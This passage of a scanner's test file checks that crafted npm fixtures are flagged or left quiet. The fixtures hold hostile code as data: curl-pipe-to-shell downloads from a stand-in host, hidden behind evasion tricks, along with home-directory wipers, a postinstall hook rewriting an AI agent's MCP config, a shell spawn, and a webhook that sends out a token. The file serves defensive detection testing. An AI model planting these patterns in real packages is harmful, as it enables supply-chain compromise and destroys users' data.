        bundleDependencies: ['json-edit-kit'],
        scripts: { postinstall: 'node scripts/integrate.js' },
      }),
      'scripts/integrate.js': `const path = require('path');
const { apply } = require('json-edit-kit');
apply(require(path.join(__dirname, '..', 'plan.json')).edits);`,
      'plan.json': JSON.stringify({
        edits: [
          {
            file: '~/.cursor/mcp.json',
            merge: { mcpServers: { tables: { command: 'npx', args: ['-y', 'tables-mcp@latest'] } } },
          },
        ],
      }),
      'node_modules/json-edit-kit/package.json': JSON.stringify({
        name: 'json-edit-kit',
        version: '1.0.0',
        main: 'lib/main.js',
      }),
      'node_modules/json-edit-kit/lib/main.js': `const fs = require('fs'), os = require('os'), path = require('path');
const expand = (p) => (p.startsWith('~') ? path.join(os.homedir(), p.slice(1)) : path.resolve(p));
exports.apply = (edits) => { for (const e of edits) fs.writeFileSync(expand(e.file), JSON.stringify(e.merge, null, 2)); };`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.write-agent-config')).toMatchObject({
      file: 'node_modules/json-edit-kit/lib/main.js',
      install_time: true,
    });
  });
  it('a name spelled out as a list with Intl.ListFormat, used on files listed under the home folder', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
const unit = new Intl.ListFormat('en', { style: 'narrow', type: 'unit' });
const word = (...p) => unit.format(p).split(' ').join('');
exports.compare = (a, b) => {
  const put = fs[word('write', 'File', 'Sync')];
  const dir = path.join(os.homedir(), 'Documents');
  for (const f of fs.readdirSync(dir)) put(path.join(dir, f), 'x');
  return a < b ? -1 : 1;
};`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.destructive-user-data')).toBe(true);
  });
  it('with (process) { with (binding(…)) { spawn(req) } }: names read from the with objects', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const host = globalThis[Object.keys({ process })[0]];
const req = { file: '/bin/sh', args: ['/bin/sh', '-c', 'id'], stdio: [] };
with (host) { with (binding('spawn' + '_sync')) { spawn(req); } }`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.internal-spawn-binding')).toMatchObject({
      confidence: 0.85,
    });
  });
});

describe('review of the twelfth session: each repro stays caught or quiet', () => {
  const install = (files: Record<string, string>) =>
    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node index.js' } }), ...files });
  const threats = (r: ReturnType<typeof analyzeSource>) =>
    r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5).map((f) => f.rule);
  it.each([
    [
      'require inside with (Math)',
      `with (Math) { require('child_process').execSync('curl -s https://x.example-cdn.top/i | sh'); }`,
    ],
    [
      'a with object does not rename a function’s parameter at its call',
      `const cp = require('child_process'); function run(cmd) { cp.execSync(cmd); }
with ({ cmd: 'ls' }) { run('curl -s https://x.example-cdn.top/i | sh'); }`,
    ],
    [
      'call.bind(String.fromCharCode.apply, execSync) runs execSync',
      `const cp = require('child_process'); const run = Function.prototype.call.bind(String.fromCharCode.apply, cp.execSync);
run(null, ['curl -s https://x.example-cdn.top/i | sh']);`,
    ],
    [
      'text doubled forty times before the payload',
      `let s = 'ab'; for (let i = 0; i < 40; i++) s += s;
require('child_process').execSync('curl -s https://x.example-cdn.top/i | sh');`,
    ],
  ])('still critical: %s', (_, code) => {
    const r = install({ 'index.js': code });
    expect(r.risk_level).toBe('critical');
  });
  it('a shipped node_modules/child_process does not replace Node’s own module', () => {
    const r = install({
      'index.js': `require('child_process').execSync('curl -s https://x.example-cdn.top/i | sh');`,
      'node_modules/child_process/package.json': JSON.stringify({ name: 'child_process', main: 'index.js' }),
      'node_modules/child_process/index.js': 'exports.execSync = () => "";',
    });
    expect(r.risk_level).toBe('critical');
  });
  it('an empty marker does not make a wiper a hook manager', () => {
    const r = install({
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
for (const f of fs.readdirSync(os.homedir())) { const p = path.join(os.homedir(), f); if (fs.readFileSync(p, 'utf8').includes('')) fs.writeFileSync(p, ''); }`,
    });
    expect(threats(r)).toContain('js.destructive-user-data');
  });
  it('a decoded name put where a function name goes, with no identifier check: still decoded code', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const fs = require('fs');
const name = Buffer.from(fs.readFileSync(__dirname + '/n.txt', 'utf8'), 'base64').toString();
module.exports = new Function('return function ' + name + '(){ return 1 }')();`,
      'n.txt': 'eA==',
    });
    expect(threats(r)).toContain('js.eval-decoded');
  });
  it('a catch block that sets another address is followed as the path it is', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const os = require('os');
let u = 'https://status.example.com/ping';
try { JSON.parse('{'); } catch (e) { u = '${HOOK}'; }
fetch(u, { method: 'POST', body: JSON.stringify({ content: os.hostname(), token: process.argv[2] }) });`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.chat-webhook-exfil')).toBe(true);
  });
  it('a bound deletion called with .call keeps its bound path', () => {
    const r = install({
      'index.js': `const fs = require('fs'), os = require('os');
const wipe = fs.rmSync.bind(fs, os.homedir(), { recursive: true, force: true });
wipe.call(null);`,
    });
    expect(threats(r)).toContain('js.destructive-user-data');
  });
  it.each([
    [
      'a DTO field transform decoding base64',
      `exports.fields = { avatar: { transform(v) { return Buffer.from(v, 'base64').toString('utf8'); } } };`,
    ],
    [
      'a tokenizer growing tok.code',
      `exports.lex = (src) => { const tok = { code: '' }; for (let i = 0; i < src.length; i++) tok.code += String.fromCharCode(src.charCodeAt(i)); return tok; };`,
    ],
    [
      'telemetry sending the names of its own environment variables',
      `const names = Object.keys(process.env).filter((k) => k.startsWith('MYTOOL_'));
fetch('https://telemetry.example-tool.dev/v1', { method: 'POST', body: JSON.stringify({ configured: names, ci: Object.keys(process.env).some((k) => k === 'CI') }) });`,
    ],
  ])('quiet: %s', (_, code) => {
    expect(threats(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
  });
  it('a token count is not a token: a reporter posting usage to its webhook stays at 0.5', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `exports.report = (usage) => fetch('${HOOK}', { method: 'POST', body: JSON.stringify({ text: 'done', tokens: usage.total_tokens }) });`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.5 });
  });
});
